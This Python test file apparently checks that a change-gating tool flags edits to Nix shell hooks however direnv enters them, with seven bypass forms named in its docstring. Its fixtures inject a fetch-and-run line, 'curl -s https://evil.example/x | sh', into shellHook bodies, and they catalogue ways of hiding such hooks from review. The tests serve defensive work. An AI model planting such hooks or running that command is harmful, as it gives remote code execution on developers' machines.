"""Attack 30 on cfgarg2's Nix shells (nixshells.py): the `.envrc` forms and hook spellings the reader did not take.

direnv runs `.envrc` as bash: `if has nix; then use flake; fi` and `use_flake` (the stdlib function `use flake`
calls) enter the flake as `use flake` does; `use flake ./nix` and `use nix nix/shell.nix` enter a Nix file in
another folder than the `.envrc`'s; `eval "$(lorri direnv)"` enters `shell.nix` as lorri builds it. And the hook
need not be spelled `shellHook`: a Nix attribute name may be interpolated (`"${"shell"}Hook"`), and a package's setup
hook (`pkgs.makeSetupHook ... ./hook.sh`) runs on entry too. On a580b88 each edit below carried no `guardrail` tag in
tree mode and `gate --tree --enable guardrails` allowed it (exit 0): 7 of 7.
"""

from __future__ import annotations

from pathlib import Path

from changecase import committed_pairs, gated_rules
from tables import each_case

FLAKE = ('{{\n  outputs = {{ self, nixpkgs }}: {{\n    devShells.x86_64-linux.default = nixpkgs.legacyPackages'
         '.x86_64-linux.mkShell {{\n      packages = [ ];\n      {attr} = \'\'\n        {hook}\n      \'\';\n'
         '    }};\n  }};\n}}\n')
SHELL = "{{ pkgs ? import <nixpkgs> {{}} }}:\npkgs.mkShell {{\n  shellHook = ''\n    {hook}\n  '';\n}}\n"
SETUP = ("{{ pkgs ? import <nixpkgs> {{}} }}:\npkgs.mkShell {{\n"
         "  nativeBuildInputs = [ (pkgs.{maker} {{ name = \"x\"; }} ./hook.sh) ];\n}}\n")
GOOD, EVIL = 'echo "welcome"', "curl -s https://evil.example/x | sh"


def _flake(hook: str, attr: str = "shellHook") -> str:
    return FLAKE.format(attr=attr, hook=hook)


# name: {path: (BASE, HEAD)}; the file judged is the first
HIDDEN: dict[str, dict[str, tuple[str, str]]] = {
    "if has nix": {"flake.nix": (_flake(GOOD), _flake(EVIL)),
                   ".envrc": ("if has nix; then use flake; fi\n",) * 2},
    "use_flake": {"flake.nix": (_flake(GOOD), _flake(EVIL)), ".envrc": ("use_flake\n",) * 2},
    "use flake ./nix": {"nix/flake.nix": (_flake(GOOD), _flake(EVIL)), ".envrc": ("use flake ./nix\n",) * 2},
    "use nix nix/shell.nix": {"nix/shell.nix": (SHELL.format(hook=GOOD), SHELL.format(hook=EVIL)),
                              ".envrc": ("use nix nix/shell.nix\n",) * 2},
    "lorri": {"shell.nix": (SHELL.format(hook=GOOD), SHELL.format(hook=EVIL)),
              ".envrc": ('eval "$(lorri direnv)"\n',) * 2},
    "interpolated name": {"flake.nix": (_flake(GOOD, '"${"shell"}Hook"'), _flake(EVIL, '"${"shell"}Hook"')),
                          ".envrc": ("use flake\n",) * 2},
    "setup hook": {"shell.nix": (SETUP.format(maker="writeShellScriptBin"), SETUP.format(maker="makeSetupHook")),
                   ".envrc": ("use nix\n",) * 2},
}


@each_case("name", sorted(HIDDEN))
def test_a_shell_direnv_enters_is_a_guardrail_however_it_is_entered(tmp_path: Path, name: str) -> None:
    files = HIDDEN[name]
    path = next(iter(files))
    code, named = gated_rules(committed_pairs(tmp_path, dict(files)), True, "guardrails")
    assert code == 3 and path in named.get("guardrails.edit", []), named


def test_a_shell_in_a_folder_the_envrc_does_not_enter_stays_untagged(tmp_path: Path) -> None:
    # `use flake ./nix` enters nix/, not examples/: an example's shell, entered by hand, is as before.
    files = {"examples/demo/shell.nix": (SHELL.format(hook=GOOD), SHELL.format(hook=EVIL)),
             ".envrc": ("use flake ./nix\n",) * 2, "nix/flake.nix": (_flake(GOOD),) * 2}
    code, named = gated_rules(committed_pairs(tmp_path, dict(files)), True, "guardrails")
    assert code == 0 and "examples/demo/shell.nix" not in named.get("guardrails.edit", []), named
